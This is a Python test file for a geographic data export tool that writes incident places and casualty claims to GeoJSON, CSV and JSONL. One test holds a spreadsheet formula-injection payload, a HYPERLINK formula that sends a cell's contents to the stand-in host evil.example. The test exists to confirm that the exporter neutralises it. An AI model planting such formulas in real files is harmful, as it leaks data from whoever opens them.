import json
import subprocess
import sys
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest

from geo.present.export import ExportError, export_bytes
from geo.present.tables import claims_frame, incident_places_frame
from ui_fixtures import sample_extractions

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def frames():
    exs = sample_extractions()
    return incident_places_frame(exs), claims_frame(exs)


def test_geojson_reads_back_with_geopandas(frames, tmp_path):
    inc, _ = frames
    f = tmp_path / "incidents.geojson"
    f.write_bytes(export_bytes(inc, "geojson"))
    gdf = gpd.read_file(f)
    assert len(gdf) == len(inc) and gdf.crs.to_epsg() == 4326
    goris = gdf[gdf.place == "Goris"].iloc[0]
    assert (round(goris.geometry.x, 4), round(goris.geometry.y, 4)) == (46.3417, 39.5111)
    assert len(goris.place_spans)  # JSON text in the file; pyogrio reads it back as a list


def test_csv_and_jsonl(frames, tmp_path):
    _, claims = frames
    f = tmp_path / "claims.csv"
    f.write_bytes(export_bytes(claims, "csv", "claims"))
    back = pd.read_csv(f)
    assert len(back) == len(claims) and "at least 49" in set(back.figure)
    lines = export_bytes(claims, "jsonl", "claims").decode().splitlines()
    rows = [json.loads(x) for x in lines]
    assert len(rows) == len(claims)
    reuters = [r for r in rows if r["claimed_by"] == "reuters" and r["side"] == "armenia"][0]
    assert reuters["count_low"] == 49 and reuters["count_high"] is None


def test_claims_have_no_geojson(frames):
    with pytest.raises(ExportError, match="csv or jsonl"):
        export_bytes(frames[1], "geojson", "claims")
    with pytest.raises(ExportError, match="unknown format"):
        export_bytes(frames[1], "xlsx", "claims")


def test_command_line_reports_a_bad_file_and_exports_the_rest(tmp_path):
    good = tmp_path / "a.txt"
    good.write_text("Testo di prova senza luoghi.", encoding="utf-8")
    missing = tmp_path / "missing.txt"
    out = tmp_path / "x.csv"
    r = subprocess.run([sys.executable, "-m", "geo", "export", "--format", "csv", "--what", "claims",
                        "-o", str(out), str(good), str(missing)], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert r.returncode == 1 and "missing.txt" in r.stderr
    assert out.read_text().startswith("claim_id,")


def strict_json(line: str):
    """json.loads that refuses NaN and Infinity, as jq, JavaScript and most loaders do."""
    return json.loads(line, parse_constant=lambda c: pytest.fail(f"not JSON: {c}"))


@pytest.mark.parametrize("what", ["incidents", "claims"])
def test_jsonl_is_strict_json_with_lists_as_lists(frames, what):
    df = frames[0] if what == "incidents" else frames[1]
    df = df.assign(quote=[None] + list(df["quote"][1:]))  # a missing text: NaN in pandas
    rows = [strict_json(x) for x in export_bytes(df, "jsonl", what).decode().splitlines()]
    assert len(rows) == len(df) and rows[0]["quote"] is None
    key = "place_spans" if what == "incidents" else "places"
    assert all(isinstance(r[key], list) for r in rows)
    assert any(r.get("claimed_by_text") is None for r in rows) or what == "incidents"


def test_geojson_is_strict_json_and_reads_back(frames, tmp_path):
    inc = frames[0].assign(attacker=None, country=float("nan"))
    data = export_bytes(inc, "geojson")
    assert all(f["properties"]["attacker"] is None for f in strict_json(data.decode())["features"])
    f = tmp_path / "i.geojson"
    f.write_bytes(data)
    assert len(gpd.read_file(f)) == len(inc)


def test_csv_cells_never_run_as_formulas(frames):
    _, claims = frames
    evil = claims.assign(quote='=HYPERLINK("http://evil.example/?"&A1,"click")', claimed_by_text="@SUM(A1:A9)")
    back = pd.read_csv(__import__("io").BytesIO(export_bytes(evil, "csv", "claims")))
    assert set(back["quote"]) == {'\'=HYPERLINK("http://evil.example/?"&A1,"click")'}
    assert set(back["claimed_by_text"]) == {"'@SUM(A1:A9)"}
    assert back["count_low"].dropna().min() >= 0  # numbers stay numbers


def test_download_names_follow_the_view():
    from geo.present.export import file_stem
    from geo.present.filters import Filters
    f = Filters(date_from="2022-09-13", date_to="2022-09-13")
    assert file_stem("incidents", f, "Goris") == "incidents_2022-09-13_goris"
    assert file_stem("claims", Filters(claimed_by=("reuters",), place=("Sotk",))) == "claims_sotk_reuters"
    assert file_stem("incidents") == "incidents"
    assert file_stem("events", None, "../<x>") == "events_x"
